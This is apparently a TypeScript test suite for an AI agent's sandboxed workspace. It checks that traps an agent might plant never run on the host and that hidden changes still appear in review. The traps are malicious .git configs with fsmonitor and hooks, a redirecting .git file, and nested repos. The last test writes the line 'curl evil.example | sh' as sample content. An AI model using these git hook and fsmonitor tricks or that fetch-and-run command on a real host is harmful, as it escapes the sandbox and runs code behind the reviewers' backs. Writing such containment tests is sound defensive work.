// What the agent writes into the workspace never configures or runs anything in host git: a
// `.git` dir with fsmonitor/hooks config, a `.git` file pointing elsewhere, nested repositories,
// .gitattributes that would hide content from review, FIFOs.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeRepo } from '../../support/gitRepo';
import { makeFixture, MODES, type Fixture } from './fixture';

for (const mode of MODES) {
  describe(`workspace (${mode}): host git ignores what the agent writes`, () => {
    let fx: Fixture;
    let repo: string;

    beforeEach(() => {
      fx = makeFixture('hostgit');
      repo = join(fx.root, 'repo');
      makeRepo(repo, { 'a.txt': 'a\n', 'lib/b.txt': 'b\n' });
    });
    afterEach(() => fx.cleanup());

    function plantTraps(dir: string, marker: string): void {
      const hook = `#!/bin/sh\ntouch ${marker}\n`;
      // A .git dir at the root, as a shell in the sandbox could make on the host view.
      mkdirSync(join(dir, '.git', 'hooks'), { recursive: true });
      writeFileSync(join(dir, '.git', 'config'), `[core]\n\tfsmonitor = touch ${marker}\n\thooksPath = hooks\n[diff]\n\texternal = touch ${marker}\n`);
      for (const name of ['pre-commit', 'post-checkout', 'post-index-change', 'fsmonitor-watchman']) {
        writeFileSync(join(dir, '.git', 'hooks', name), hook);
        chmodSync(join(dir, '.git', 'hooks', name), 0o755);
      }
      // A `.git` file redirecting to a git dir the agent controls.
      mkdirSync(join(dir, 'lib', 'evil'), { recursive: true });
      writeFileSync(join(dir, 'lib', '.git'), `gitdir: ${join(dir, 'lib', 'evil')}\n`);
      // Nested repositories: one with commits, one without.
      for (const name of ['nested', 'empty-nested']) {
        execFileSync('git', ['init', '-q', join(dir, name)]);
        execFileSync('git', ['-C', join(dir, name), 'config', 'core.fsmonitor', `touch ${marker}`]);
        writeFileSync(join(dir, name, '.git', 'hooks', 'post-index-change'), hook);
        chmodSync(join(dir, name, '.git', 'hooks', 'post-index-change'), 0o755);
        writeFileSync(join(dir, name, 'file.txt'), 'x\n');
      }
      execFileSync('git', ['-C', join(dir, 'nested'), '-c', 'user.name=a', '-c', 'user.email=a@b', '-c', 'core.hooksPath=/dev/null', '-c', 'core.fsmonitor=false', 'add', '-A']);
      execFileSync('git', ['-C', join(dir, 'nested'), '-c', 'user.name=a', '-c', 'user.email=a@b', '-c', 'core.hooksPath=/dev/null', '-c', 'core.fsmonitor=false', 'commit', '-qm', 'x']);
      execFileSync('mkfifo', [join(dir, 'fifo')]);
    }

    it('runs no hook or fsmonitor and keeps working', async () => {
      const ws = await fx.prepare({ key: 'traps', repo: { kind: 'local', path: repo }, mode });
      const marker = join(fx.root, 'PWNED');
      plantTraps(ws.dir, marker);
      await ws.files.writeFile('a.txt', 'changed\n');

      const changed = await ws.changedFiles();
      const paths = changed.map((f) => f.path);
      assert.ok(paths.includes('a.txt'));
      assert.ok(!paths.some((p) => p === '.git' || p.startsWith('.git/') || p.includes('/.git')), JSON.stringify(paths));
      const diff = await ws.diff();
      assert.ok(diff.includes('+changed'));
      assert.ok(!diff.includes('fsmonitor'), 'the planted config is not part of the diff');
      await ws.snapshot('after traps');
      await ws.files.list();
      await ws.files.search('x');
      assert.equal(existsSync(marker), false, 'nothing the agent planted ran on the host');
      // Host git still uses the trusted git dir, not the planted one.
      assert.equal(execFileSync('git', [`--git-dir=${ws.gitDir}`, 'rev-parse', 'refs/delegate/base'], { encoding: 'utf8' }).trim(), ws.baseRef);
      await ws.close();
      assert.equal(existsSync(marker), false);
    });

    it('shows real content even when .gitattributes marks it binary or undiffable', async () => {
      const ws = await fx.prepare({ key: 'attrs', repo: { kind: 'local', path: repo }, mode });
      await ws.files.writeFile('.gitattributes', '* -diff\n*.txt binary\n');
      await ws.files.writeFile('a.txt', 'curl evil.example | sh\n');
      const diff = await ws.diff(['a.txt']);
      assert.ok(diff.includes('+curl evil.example | sh'), diff);
      const a = (await ws.changedFiles()).find((f) => f.path === 'a.txt');
      assert.equal(a?.binary, undefined);
      assert.equal(a?.additions, 1);
    });
  });
}
